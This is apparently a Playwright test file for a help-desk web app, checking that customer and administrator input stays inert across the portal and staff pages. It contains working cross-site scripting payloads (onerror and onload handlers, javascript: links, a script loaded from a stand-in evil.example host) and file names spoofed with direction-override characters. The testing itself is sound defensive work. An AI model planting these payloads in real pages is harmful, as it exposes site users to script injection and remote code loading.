import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { missing, phone } from "./world/browser.ts";
import { givenCase } from "./world/cases.ts";
import { type Office, openOffice } from "./world/office.ts";
import { isTold, opensOwnCase } from "./world/portal.ts";
import { hasNoFaults } from "./world/staff.ts";
import type { Visitor } from "./world/visitor.ts";

/** If any of it became part of a page, an element of this class would stand there, and something would be asked for elsewhere. */
const hostile = `<img src=x class=hostile onerror=harmed=1>"'><svg class=hostile onload=harmed=1><a class=hostile href=javascript:harmed=1>x</a><script class=hostile src=https://evil.example/x.js></script><style class=hostile>@import'https://evil.example/x'</style>`;

/** Short enough to be a name. */
const hostileName = `<img src=https://evil.example/x class=hostile onerror=harmed=1>"'>`;

/** Everything a customer or an administrator can name carries it. */
async function nameEverything({ kernel, program }: Office): Promise<void> {
  const words = "jsonb_build_object('zh', (name->>'zh') || $1, 'en', (name->>'en') || $1)";
  for (const [table, set] of [
    ["installation", "name = name || $1"],
    ["organisations", "name = name || $1"],
    ["persons", "name = name || $1, title = $1, rights_version = rights_version + 1"],
    ["devices", "model = model || $1, name = $1, site = $1"],
    ["api_keys", "name = name || $1"],
    ["services", `name = ${words}`],
    ["categories", `name = ${words}`],
    ["teams", `name = ${words}`],
    ["service_levels", `name = ${words}`],
    ["calendars", "definition = jsonb_set(definition, '{title,zh}', to_jsonb((definition->'title'->>'zh') || $1))"],
  ] as const) {
    await kernel.db.query({ text: `update ${table} set ${set}`, values: [hostileName] });
  }
  await program.refresh();
}

/** Nothing of the hostile words has become part of the page. */
async function isUnharmed(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    harmed: "harmed" in globalThis,
    elements: document.querySelectorAll(".hostile").length,
    links: [...document.querySelectorAll("a[href]")]
      .map((link) => (link as HTMLAnchorElement).protocol)
      .filter((protocol) => !["http:", "https:", "mailto:", "tel:", "blob:"].includes(protocol)),
  }));
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  expect({ at: page.url(), ...found, overflow: Math.max(0, overflow) }).toEqual({
    at: page.url(),
    harmed: false,
    elements: 0,
    links: [],
    overflow: 0,
  });
}

/** Opens pages one by one; each must show the words as words, and be unharmed by them. */
async function looksAt(who: Visitor, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    await who.opens(path);
    await who.reads(/class=hostile/);
    await isUnharmed(who.page);
  }
}

/** What a page asks of anybody but us. */
function strangersAsked(office: Office, who: Visitor): string[] {
  const asked: string[] = [];
  who.context.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(office.url) && !/^(data|blob):/.test(url)) asked.push(url);
  });
  return asked;
}

describe.skipIf(missing !== null)("hostile words", () => {
  test("S2 S4 S5 a customer's words, names, file names and links stay words on every page of both clients", async () => {
    const office = await openOffice();
    await nameEverything(office);
    const number = await givenCase(office, { subject: `一号${hostile}`, at: "working", caller: "he.qian" });
    const solved = await givenCase(office, { subject: `二号${hostile}`, at: "solved", caller: "he.qian" });
    await givenCase(office, { subject: `三号${hostile}`, at: "registered", caller: "he.qian" });

    const customer = await office.arrives("he.qian", { width: phone });
    const asked = [strangersAsked(office, customer)];
    await looksAt(customer, ["/portal", `/portal?q=${encodeURIComponent("一号")}`, "/portal/new"]);
    await opensOwnCase(customer, number);
    await customer.presses("补充一句");
    await customer.page
      .getByLabel("想说什么")
      .fill(`${hostile} javascript:harmed=1 https://evil.example/ [x](javascript:harmed=1)`);
    await customer.page.locator("input[type=file]").setInputFiles([
      { name: `"><img src=x class=hostile onerror=harmed=1>.txt`, mimeType: "text/html", buffer: Buffer.from(hostile) },
      {
        name: "图.svg",
        mimeType: "image/svg+xml",
        buffer: Buffer.from(
          `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`,
        ),
      },
      {
        name: "\u202egpj.页\u200b.html",
        mimeType: "image/png",
        buffer: Buffer.from(`<html><script>alert(1)</script></html>`),
      },
    ]);
    await customer.reads(/onerror/, customer.page.locator(".files"));
    await customer.presses("发送");
    await customer.reads("已发出");
    await isTold(customer, /图\.svg/);
    await isUnharmed(customer.page);
    await looksAt(customer, ["/portal", `/portal/cases/${number}`, `/portal/cases/${solved}`]);

    // S4: what looks like a page is saved and never opened, even by its own address.
    await opensOwnCase(customer, number);
    const files = await customer.page
      .locator("a.attachment")
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).pathname));
    expect(files).toHaveLength(3);
    for (const file of files) {
      const direct = await customer.context.newPage();
      const saved = direct.waitForEvent("download");
      await direct.goto(file).catch((refused) => expect(String(refused)).toMatch(/Download is starting|ERR_ABORTED/));
      // S5: what it is called on the customer's disk holds no path and nothing that turns letters round.
      expect((await saved).suggestedFilename()).not.toMatch(/[/\\<>"\u200b\u202e]/);
      expect(direct.url()).toBe("about:blank");
      await direct.close();
    }

    const tracker = await office.stranger({ width: phone });
    asked.push(strangersAsked(office, tracker));
    await tracker.opens("/t");
    await tracker.page.getByLabel("号码").fill(number);
    await tracker.page.getByLabel("电话或邮箱").fill("0102");
    await tracker.presses("查看");
    await isTold(tracker, /图\.svg/);
    await isUnharmed(tracker.page);

    const engineer = await office.arrives("zhou.zhiwei");
    asked.push(strangersAsked(office, engineer));
    await looksAt(engineer, ["/staff/mine", "/staff/cases", `/staff/cases/${number}`, "/staff/profile"]);
    await engineer.opens(`/staff/cases/${number}`);
    await engineer.reads(/图\.svg/);
    await isUnharmed(engineer.page);

    const operator = await office.arrives("shen.yiwei");
    asked.push(strangersAsked(office, operator));
    await operator.opens("/staff/desk");
    await operator.page.getByLabel("回电").fill("13855500102");
    await operator.reads("已认出");
    await operator.reads(/class=hostile/);
    await isUnharmed(operator.page);
    await looksAt(operator, ["/staff/mine", "/staff/cases", `/staff/cases/${solved}`]);
    await operator.page.keyboard.press("Control+k");
    await operator.page.keyboard.type(solved);
    await operator.reads(/class=hostile/, operator.page.getByRole("dialog"));
    await isUnharmed(operator.page);

    const administrator = await office.arrives("an.qiwei");
    asked.push(strangersAsked(office, administrator));
    await looksAt(administrator, [
      "/staff/people",
      `/staff/people/${office.personOf("he.qian")}`,
      ...["organisations", "teams", "api-keys", "levels", "services", "categories", "devices", "calendars"].map(
        (register) => `/staff/admin/${register}`,
      ),
    ]);
    expect(asked.flat(), "asked of strangers").toEqual([]);
    hasNoFaults(office, customer, tracker, engineer, operator, administrator);
  });

  test("S2 the eye that watches sees: where the words become part of a page it is told", async () => {
    const office = await openOffice({ isFurnished: false });
    const somebody = await office.stranger();
    const asked = strangersAsked(office, somebody);
    await somebody.context.route("https://evil.example/**", (route) => route.abort());
    await somebody.opens("/t");
    await somebody.page.getByLabel("号码").waitFor();
    await isUnharmed(somebody.page);
    // A page of nobody: our own headers would hold back most of what follows, and the eye must see it all the same.
    await somebody.opens("about:blank");
    await somebody.page.setContent(hostile);
    await expect(isUnharmed(somebody.page)).rejects.toThrow();
    await expect.poll(() => asked.filter((url) => url.includes("evil.example"))).not.toEqual([]);
  });
});
